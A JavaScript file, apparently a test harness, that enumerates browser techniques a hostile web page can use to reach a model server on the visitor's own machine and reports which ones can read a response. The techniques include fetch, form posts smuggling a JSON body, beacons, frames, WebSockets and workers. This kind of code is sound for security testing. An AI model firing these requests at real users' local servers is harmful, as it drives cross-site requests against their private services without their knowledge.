// What a hostile page can try against an address of the user's own machine, every way there is.
// `attack` ends when each way has ended; it says which of them could read an answer.
"use strict";

const CHAT = JSON.stringify({
  model: "tiny-model",
  messages: [{ role: "user", content: "stolen" }],
});
const PATIENCE_MS = 2000; // some ways never say that they have ended

function settled(start) {
  return new Promise((resolve) => {
    setTimeout(resolve, PATIENCE_MS, "");
    Promise.resolve()
      .then(() => start(resolve))
      .then((value) => value === undefined || resolve(value))
      .catch(() => resolve(""));
  });
}

async function read(url, options) {
  const answer = await fetch(url, options);
  return answer.ok ? await answer.text() : "";
}

function beacon(url, data) {
  return (done) => {
    navigator.sendBeacon(url, data);
    setTimeout(done, 300, "");
  };
}

function load(tag, properties) {
  return (done) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = element.onloadeddata = () => done("");
    Object.assign(element, properties);
    document.body.append(element);
  };
}

function submit(url, enctype, method, name, value) {
  return (done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action: url, method, enctype, target: frame.name });
    const input = document.createElement("input");
    Object.assign(input, { name, value, type: "hidden" });
    form.append(input);
    document.body.append(form);
    frame.onload = () => done("");
    form.submit();
  };
}

function frame(properties, attributes = {}) {
  return (done) => {
    const element = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.onload = () => setTimeout(done, 500, "");
    Object.assign(element, properties);
    document.body.append(element);
  };
}

function waysInto(base) {
  const chat = `${base}/v1/chat/completions`;
  const models = `${base}/v1/models`;
  const json = { "Content-Type": "application/json" };
  const text = { "Content-Type": "text/plain" };
  const inFrame = `<script>fetch(${JSON.stringify(chat)}, {method: "POST", mode: "no-cors",
    body: ${JSON.stringify(CHAT)}})<\/script>`;
  return {
    "fetch of JSON": () => read(chat, { method: "POST", headers: json, body: CHAT }),
    "fetch of text": () => read(chat, { method: "POST", headers: text, body: CHAT }),
    "fetch with a key": () =>
      read(chat, { method: "POST", headers: { ...json, Authorization: "Bearer x" }, body: CHAT }),
    "fetch with an SDK's header": () =>
      read(chat, { method: "POST", headers: { ...json, "x-stainless-lang": "js" }, body: CHAT }),
    "fetch with cookies": () =>
      read(chat, { method: "POST", credentials: "include", headers: text, body: CHAT }),
    "fetch without CORS": () => read(chat, { method: "POST", mode: "no-cors", body: CHAT }),
    "fetch without CORS, as JSON": () =>
      read(chat, { method: "POST", mode: "no-cors", headers: json, body: CHAT }),
    "fetch that outlives the page": () =>
      read(chat, { method: "POST", mode: "no-cors", keepalive: true, body: CHAT }),
    "fetch without a referrer": () =>
      read(chat, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body: CHAT }),
    "fetch of a Blob": () =>
      read(chat, { method: "POST", mode: "no-cors", body: new Blob([CHAT]) }),
    "fetch by PUT": () => read(chat, { method: "PUT", headers: json, body: CHAT }),
    "fetch of the models": () => read(models),
    "fetch of the models without CORS": () => read(models, { mode: "no-cors" }),
    "HEAD of the models": () => read(models, { method: "HEAD", mode: "no-cors" }),
    "XMLHttpRequest": (done) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => done(request.status === 200 ? request.responseText : "");
      request.open("POST", chat);
      request.send(CHAT);
    },
    "beacon of text": beacon(chat, CHAT),
    "beacon of JSON": beacon(chat, new Blob([CHAT], { type: "application/json" })),
    "form as text": submit(chat, "text/plain", "POST", CHAT.slice(0, -1) + ',"a":"', '"}'),
    "form as usual": submit(chat, "application/x-www-form-urlencoded", "POST", "model", "x"),
    "form with parts": submit(chat, "multipart/form-data", "POST", "model", "x"),
    "form by GET": submit(models, "application/x-www-form-urlencoded", "GET", "a", "b"),
    "image": load("img", { src: models }),
    "script": load("script", { src: models }),
    "module": load("script", { type: "module", src: models }),
    "style": load("link", { rel: "stylesheet", href: models }),
    "prefetch": load("link", { rel: "prefetch", href: models }),
    "video": load("video", { src: models }),
    "object": load("object", { data: models }),
    "frame": frame({ src: models }),
    "frame of the page": frame({ src: `${base}/` }),
    "frame without an origin": frame({ srcdoc: inFrame }, { sandbox: "allow-scripts" }),
    "EventSource": (done) => {
      const source = new EventSource(models);
      source.onmessage = (event) => done(event.data);
      source.onerror = () => (source.close(), done(""));
    },
    "WebSocket": (done) => {
      const socket = new WebSocket(models.replace("http:", "ws:"));
      socket.onopen = () => done("open");
      socket.onerror = () => done("");
    },
    "worker": () =>
      new Promise((resolve) => {
        const code = `fetch(${JSON.stringify(chat)}, {method: "POST", mode: "no-cors",
          body: ${JSON.stringify(CHAT)}}).finally(() => postMessage(1))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = worker.onerror = () => resolve("");
      }),
  };
}

async function attack(...bases) {
  const ways = bases.flatMap((base) => Object.entries(waysInto(base)));
  const results = await Promise.all(ways.map(([, start]) => settled(start)));
  return { tried: ways.length, read: ways.filter((_, i) => results[i]).map(([name]) => name) };
}
